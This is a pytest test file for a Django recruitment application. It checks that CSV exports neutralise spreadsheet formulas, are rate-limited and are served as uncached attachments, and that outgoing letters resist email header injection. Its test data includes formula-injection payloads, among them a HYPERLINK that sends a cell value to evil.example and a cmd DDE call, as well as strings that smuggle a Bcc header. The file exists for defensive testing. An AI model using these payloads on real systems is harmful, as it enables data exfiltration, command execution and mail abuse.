"""Files for a spreadsheet, and letters: no cell runs, no header is added, nobody empties us (P24, P25, B20, B57)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings as product
from django.core import mail
from django.core.exceptions import ValidationError
from django.template import loader

from foundation import clock, limits, spreadsheets
from foundation.tenancy import tenant
from recruitment.actions import mail as letters
from recruitment.models import Source
from tests.kanalkompass.test_bad_input import House, every_route, house  # noqa: F401

FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "\n=1+1", "\uff1d1+1", " =1+1", "\u00a0=1+1"]  # fmt: skip
RUNS = re.compile(r"^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
A_NUMBER = re.compile(r"^-?\d+(,\d+)?$")
ROOMS = ("foundation", "recruitment", "channels", "analytics", "audit", "kanalkompass")


def cells_of(answer) -> list[str]:
    text = answer.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


@pytest.fixture
def planted(house: House, lyngvaer) -> House:  # noqa: F811
    """The house, where whatever people can name is named after a formula."""
    with tenant(lyngvaer.pk):
        for number, source in enumerate(Source.objects.all()):
            source.name_nb = source.name_nn = source.name_en = f"{FORMULAS[0]} {number}"
            source.save()
    for number, person in enumerate(lyngvaer.people.values()):
        person.full_name = FORMULAS[number % 4]
        person.save()
    return house


def files_of(house: House) -> dict[str, object]:  # noqa: F811
    """Return the answer of every route that hands out a file for a spreadsheet, by its name."""
    found = {}
    for route in every_route():
        if route.name.endswith("_csv"):
            answer = house.browsers_for(route)[0].get(house.address(route))
            found[route.name] = answer
    return found


class TestEveryExport:
    def test_p24_has_no_cell_that_a_spreadsheet_would_run(self, planted):
        files = files_of(planted)

        assert {"sources_csv"} <= set(files)
        for name, answer in files.items():
            assert answer.status_code == 200, name
            assert answer.headers["Content-Type"].startswith("text/csv"), name
            risky = [cell for cell in cells_of(answer) if RUNS.match(cell) and not A_NUMBER.match(cell)]
            assert risky == [], name
        assert any("HYPERLINK" in cell for cell in cells_of(files["sources_csv"]))

    def test_p24_is_saved_and_not_shown_and_kept_by_no_cache(self, planted):
        for name, answer in files_of(planted).items():
            assert answer.headers["Content-Disposition"].startswith("attachment; filename="), name
            assert "no-store" in answer.headers["Cache-Control"], name

    def test_p25_a_municipality_gets_sixty_files_an_hour_and_its_neighbour_its_own_sixty(self, planted, lyngvaer):
        for _ in range(limits.EXPORTS_PER_MUNICIPALITY["limit"]):
            limits.count_export(lyngvaer.pk)

        for name, answer in files_of(planted).items():
            assert answer.status_code == 429, name
            assert 1 <= int(answer.headers["Retry-After"]) <= 3600, name
            assert "Grensen er nådd" in answer.content.decode(), name
        limits.count_export(lyngvaer.pk + 1)

    def test_p24_is_made_in_one_place(self):
        """Who writes a file for a spreadsheet elsewhere goes past the neutraliser and the limit."""
        writers = {
            str(path.relative_to(product.BASE_DIR))
            for room in ROOMS
            for path in (Path(product.BASE_DIR) / room).rglob("*.py")
            if re.search(r"text/csv|csv\.(writer|DictWriter)|spreadsheetml|csv_of\(", path.read_text())
        }

        # Measurements are written as CSV for PostgreSQL's COPY, and never leave.
        assert writers == {"foundation/spreadsheets.py", "analytics/actions/measurements.py"}


class TestCells:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_p24_b20_a_formula_becomes_text(self, formula):
        [cell] = cells_of(type("Answer", (), {"content": spreadsheets.csv_of([[formula]])}))

        assert cell.startswith("'")
        assert cell[1:].replace("\r\n", "\n").replace("\r", "\n") == formula.replace("\r\n", "\n").replace("\r", "\n")

    def test_b20_figures_stay_figures(self):
        assert spreadsheets.csv_of([[-5, Decimal("-0.5"), None, 0]]) == b"\xef\xbb\xbf-5;-0,5;;0\r\n"


LETTERS = sorted(
    path.name.removesuffix("_subject.txt") for path in (product.BASE_DIR / "templates/mail").glob("*_subject.txt")
)
INJECTION = "Emne\r\nBcc: offer@evil.example\r\n\r\n<script>\u2028X-Evil: 1\x0bY: 2\x00"


class Evil:
    """A municipality whose name is an attack, and whose number is one all the same."""

    number = "9901"

    def __str__(self) -> str:
        return INJECTION


class TestEveryLetter:
    @pytest.mark.parametrize("template", LETTERS)
    def test_p24_b57_has_no_header_that_a_person_typed(self, db, template):
        source = loader.get_template(f"mail/{template}_subject.txt").template.source
        names = re.findall(r"{{\s*(\w+)|with\s+(\w+)=|=(\w+)", source)
        context = {name: INJECTION for found in names for name in found if name}
        # What is no text is made by us: moments, days and counts.
        context |= {"at": clock.now(), "on": clock.today(), "minutes": 3, "n_days": 7}

        letters.post(
            to="hr@lyngvaer.example", template=template, context=context | {"municipality": Evil()}, language="nb"
        )
        letters.send_due(now=clock.now())

        [letter] = mail.outbox
        message = letter.message()
        assert set(message.keys()) <= {"Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Subject", "From",
                                       "To", "Date", "Message-ID", "Auto-Submitted"}  # fmt: skip
        assert not re.search(r"[\r\n\x00\x0b\u2028]", letter.subject)
        assert letter.recipients() == ["hr@lyngvaer.example"]

    @pytest.mark.parametrize("to", ["a@b.example\r\nBcc: x@evil.example", "a@b.example, x@evil.example", "", "Ola <a>"])
    def test_p24_b57_goes_to_one_plain_address_or_nowhere(self, db, to):
        with pytest.raises(ValidationError):
            letters.post(to=to, template=LETTERS[0], context={}, language="nb")
